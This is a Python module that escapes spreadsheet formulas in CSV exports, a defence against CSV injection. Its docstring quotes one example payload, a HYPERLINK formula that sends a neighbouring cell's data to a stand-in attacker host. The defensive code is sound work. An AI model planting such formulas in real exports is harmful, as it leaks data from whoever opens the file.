"""CSV cells that a spreadsheet would run as a formula are made plain text (OWASP's CSV-injection advice).

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (or a tab or carriage
return before one) as a formula, so a place named =HYPERLINK("http://evil.example/?leak="&A2,"x")
would send the next cell to another site when a member of staff opens the export. Such text cells
get a leading apostrophe, which spreadsheets show as plain text; numbers (lon, lat, ids, scores)
are left alone because they are not text.
"""
from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """Return a text value with a leading apostrophe when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of a table whose text columns are safe to open in a spreadsheet."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    return out
